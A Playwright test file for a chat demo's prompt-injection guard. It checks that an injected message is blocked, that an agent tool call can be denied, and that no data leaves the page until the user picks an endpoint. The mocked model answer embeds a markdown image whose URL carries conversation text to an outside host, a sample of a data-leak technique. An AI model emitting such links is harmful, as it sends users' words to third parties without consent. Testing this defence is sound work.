import { existsSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { expect, type Request, test } from '@playwright/test';
import { addElements } from './support/elements.ts';
import { startEndpoint, useEndpoint } from './support/endpoint.ts';
import { INJECTION, openReady, send } from './support/page.ts';

/** What the person writes, and nobody else. */
const QUESTION = 'When does the hut of Rumpelstiltskin open?';
const ATTACK = `${INJECTION} It is called Rumpelstiltskin.`;
const TASK = 'Read “Hut prices” and tell me what a night costs for Rumpelstiltskin.';
/** An answer that would call home if it were drawn. */
const ANSWER = ['It opens in May. ', 'Rumpelstiltskin has a map: ![map](https://tiles.example/map.png?q=Rumpelstiltskin) '];

/**
 * A file of the built page, asked for by its name and nothing else: then a request can carry no text, in whatever code. The service worker adds
 * the file's own revision.
 */
function isFileOfPage(request: Request): boolean {
  const { pathname, search } = new URL(request.url());
  const file = join('dist/demo', pathname === '/' ? 'index.html' : pathname);
  const named = existsSync(file) && statSync(file).isFile() && /^(?:\?__WB_REVISION__=[0-9a-f]+)?$/.test(search);
  return named && request.method() === 'GET' && request.postData() === null;
}

test.use({ actionTimeout: 30_000 });

test('nothing goes anywhere but for the page’s own files, until a person names an endpoint; then their words go there', async ({ page, context, baseURL }) => {
  await using endpoint = await startEndpoint(ANSWER);
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  const requests: Request[] = [];
  // But for what the tests themselves add.
  context.on('request', (request) => void (request.url() === `${baseURL}elements-under-test.js` || requests.push(request)));
  const sockets: string[] = [];
  page.on('websocket', (socket) => sockets.push(socket.url()));
  const elsewhere = (): string[] => requests.filter((request) => !isFileOfPage(request)).map((request) => `${request.method()} ${request.url()}`);
  const [gate, answers] = [page.getByTestId('guard'), page.getByTestId('message-assistant')];

  await openReady(page);
  await addElements(page);
  await page.evaluate(() => {
    const report = document.createElement('portcullis-report');
    report.setAttribute('for', 'gate');
    document.querySelector('main')?.prepend(report);
  });
  await page.evaluate(() => navigator.serviceWorker.ready);

  // Typing, sending, an answer, and one that is blocked, with all that tells why.
  await send(page, QUESTION);
  await expect(answers).toHaveCount(1);
  await send(page, ATTACK);
  await expect(gate.getByRole('alert')).toContainText('Blocked');
  await page.getByRole('button', { name: 'Mark the words' }).press('Enter');
  await expect(page.locator('portcullis-report mark').first()).toBeVisible();
  await page.getByText('Alert as JSON').press('Enter');
  await page.getByTestId('copy-verdict').press('Enter');
  await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toContain('"decision"');
  await page.getByTestId('composer').fill('');

  // A task for the agent, and its call of a tool.
  await page.getByTestId('agent-toggle').click();
  await page.getByTestId('agent-task').fill(TASK);
  await page.keyboard.press('Enter');
  await page.getByTestId('call-deny').click();
  await expect(page.getByTestId('agent-said')).toBeVisible();
  await page.getByTestId('agent-toggle').click();

  // The conversation goes on, and is forgotten.
  await send(page, `And ${QUESTION}`);
  await expect(answers).toHaveCount(2);
  await page.getByTestId('forget').click();
  await expect(answers).toHaveCount(0);
  expect(elsewhere()).toEqual([]);
  expect(endpoint.received).toEqual([]);

  // To name an endpoint is to consent to it, and to no other place.
  await useEndpoint(page, endpoint.url);
  expect(elsewhere()).toEqual([]);
  await send(page, ATTACK);
  await expect(gate.getByRole('alert')).toContainText('Blocked');
  await page.getByTestId('composer').fill('');
  expect(elsewhere()).toEqual([]);
  await send(page, QUESTION);
  await expect(answers).toContainText('It opens in May.');
  await expect(page.getByTestId('message-waiting')).toHaveCount(0);
  expect(elsewhere()).toEqual([`POST ${endpoint.url}/chat/completions`]);
  expect(endpoint.received.filter((body) => body.startsWith('POST'))).toEqual([expect.stringContaining(QUESTION)]);
  expect(sockets).toEqual([]);
  // What the worker asks for is seen, too: a test that saw nothing would prove nothing.
  expect(requests.some((request) => request.url().endsWith('/encoder.weights.bin'))).toBe(true);
});
